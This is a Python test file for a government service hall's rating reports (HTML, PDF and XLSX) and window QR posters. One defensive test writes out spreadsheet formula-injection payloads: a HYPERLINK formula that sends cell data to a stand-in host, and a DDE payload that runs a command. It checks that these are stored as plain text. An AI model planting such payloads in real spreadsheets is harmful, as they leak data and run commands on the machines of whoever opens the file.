"""The 通报 (HTML, PDF, XLSX, public version) and the window posters, made from a real hub database;
the first page of each PDF rendered with pdftoppm into docs/screenshots/."""

from __future__ import annotations

import io
import os
import re
import shutil
import subprocess
import tempfile
from pathlib import Path

import figures_data as data
import pytest
import zxingcpp
from openpyxl import load_workbook
from PIL import Image

from commands.cli import main
from hub.config import FiguresConfig
from hub.desk.calendar import WorkCalendar
from hub.desk.store import DeskStore
from hub.figures.posters import poster_pdf, windows_for_posters
from hub.figures.reports import build_report, render, to_xlsx
from hub.figures.store import FigureStore
from hub.storage import HubStore, database_url

ROOT = Path(__file__).resolve().parent.parent


def shots() -> Path:
    """docs/screenshots/ with KIOSK_REFRESH_SCREENSHOTS=1 (the pages hold the day they were made), else a
    scratch folder."""
    if os.environ.get("KIOSK_REFRESH_SCREENSHOTS") == "1":
        return ROOT / "docs" / "screenshots"
    folder = Path(tempfile.gettempdir()) / f"kiosk-report-shots-{os.getpid()}"
    folder.mkdir(parents=True, exist_ok=True)
    return folder


@pytest.fixture
def hub(tmp_path):
    store = HubStore(database_url(tmp_path / "hub", None))
    desk = DeskStore(store.engine, WorkCalendar(frozenset()))
    desk.add_section(data.DEPT_A, "企业服务科")
    desk.add_section(data.DEPT_B, "社会事务科")
    for device, dept in ((data.W03, data.DEPT_A), (data.W05, data.DEPT_B)):
        store.add_device(device)
        desk.set_device_section(device, dept)
    store.add_phone_rating(dict(data.PHONE_C2))
    for device, events in ((data.W03, data.EVENTS_W03), (data.W05, data.EVENTS_W05)):
        store.ingest(device, events[0]["log_id"], events)
    yield store, FigureStore(store.engine)
    store.close()


def first_page_png(pdf: bytes, out: Path, dpi: int = 80) -> Image.Image:
    """The first page of ``pdf`` as a PNG (pdftoppm), kept at ``out``."""
    assert shutil.which("pdftoppm"), "pdftoppm (poppler-utils) is needed"
    src = out.with_suffix(".pdf")
    src.write_bytes(pdf)
    subprocess.run(
        [
            "pdftoppm",
            "-png",
            "-r",
            str(dpi),
            "-f",
            "1",
            "-l",
            "1",
            "-singlefile",
            str(src),
            str(out.with_suffix("")),
        ],
        check=True,
    )
    src.unlink()
    return Image.open(out)


def pdf_text(pdf: bytes, tmp_path: Path) -> str:
    src = tmp_path / "x.pdf"
    src.write_bytes(pdf)
    return subprocess.run(
        ["pdftotext", "-layout", str(src), "-"], check=True, capture_output=True, text=True
    ).stdout


def test_the_bureau_report_as_html_pdf_and_xlsx(hub, tmp_path):
    _, figures = hub
    report = build_report(figures, FiguresConfig(min_rated=1), "2026-11")
    html = render(report, "html").decode("utf-8")
    assert "政务服务大厅“好差评”情况通报（2026年11月）" in html
    assert "王晓燕" in html and "<svg" in html and report.head["head"] in html
    assert report.total["services"] == 7 and report.total["rated"] == 6
    pdf = render(report, "pdf")
    assert pdf.startswith(b"%PDF")
    text = pdf_text(pdf, tmp_path)
    assert "满意率" in text and "王晓燕" in text  # the CJK font is embedded: the text is there as text
    image = first_page_png(pdf, shots() / "figures-report-bureau.png")
    assert image.size[0] > 600
    wb = load_workbook(io.BytesIO(render(report, "xlsx")))
    assert wb.sheetnames[:3] == ["概况", "按科室", "按人员"]
    assert [c.value for c in wb["按科室"]["B"]][1:] == ["企业服务科", "社会事务科"]
    assert wb["概况"]["B4"].value == report.head["head"]


def test_the_public_version_names_no_staff_unless_configured(hub, tmp_path):
    _, figures = hub
    public = render(build_report(figures, FiguresConfig(), "2026-11", public=True), "html").decode("utf-8")
    assert "公开（2026年11月）" in public
    assert "王晓燕" not in public and "0371" not in public and "C3" not in public
    assert "回访率" not in public
    named = render(
        build_report(figures, FiguresConfig(public_staff=True), "2026-11", public=True), "html"
    ).decode()
    assert "王晓燕" in named and "0371" in named
    pdf = render(build_report(figures, FiguresConfig(), "2026Q4", public=True), "pdf")
    first_page_png(pdf, shots() / "figures-report-public.png")


def test_xlsx_cells_are_never_formulas(hub):
    _, figures = hub
    report = build_report(figures, FiguresConfig(min_rated=1), "2026-11")
    evil = '=HYPERLINK("http://x.example/?"&B2,"查看")'
    report.items.append({**report.items[0], "key": evil, "label": "+1+cmd|' /C calc'!A0"})
    report.staff.append({**report.staff[0], "key": "@SUM(1)", "label": "-2+3"})
    wb = load_workbook(io.BytesIO(to_xlsx(report)))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert "'" + evil in texts and "'@SUM(1)" in texts and "'-2+3" in texts


def test_report_and_posters_commands(hub, tmp_path, capsys):
    data_dir = str(tmp_path / "hub")
    out = tmp_path / "r.xlsx"
    assert (
        main(
            ["hub", "report", "--data", data_dir, "--period", "2026Q4", "--format", "xlsx", "--out", str(out)]
        )
        == 0
    )
    assert load_workbook(out).sheetnames[0] == "概况"
    assert main(["hub", "report", "--data", data_dir, "--period", "2026-11-02", "--out", str(out)]) == 2
    assert main(["hub", "posters", "--data", data_dir, "--out", str(tmp_path / "p.pdf")]) == 2
    assert "poster_url" in capsys.readouterr().err


def test_posters_one_a4_page_per_window_with_a_qr_code_that_scans(hub, tmp_path):
    _, figures = hub
    windows = windows_for_posters(figures)
    assert [w.window for w in windows] == ["03", "05"]
    pdf = poster_pdf(windows, "https://pj.example.gov.cn/hall?window={window}", "青岛西海岸新区政务服务大厅")
    src = tmp_path / "p.pdf"
    src.write_bytes(pdf)
    info = subprocess.run(["pdfinfo", str(src)], capture_output=True, text=True, check=True).stdout
    assert re.search(r"^Pages:\s+2$", info, re.M) and "595.276 x 841.89" in info  # A4 in points
    image = first_page_png(pdf, shots() / "figures-poster.png", dpi=100)
    found = zxingcpp.read_barcodes(image)
    assert [b.text for b in found] == ["https://pj.example.gov.cn/hall?window=03"]
    assert "03号窗口" in pdf_text(pdf, tmp_path)
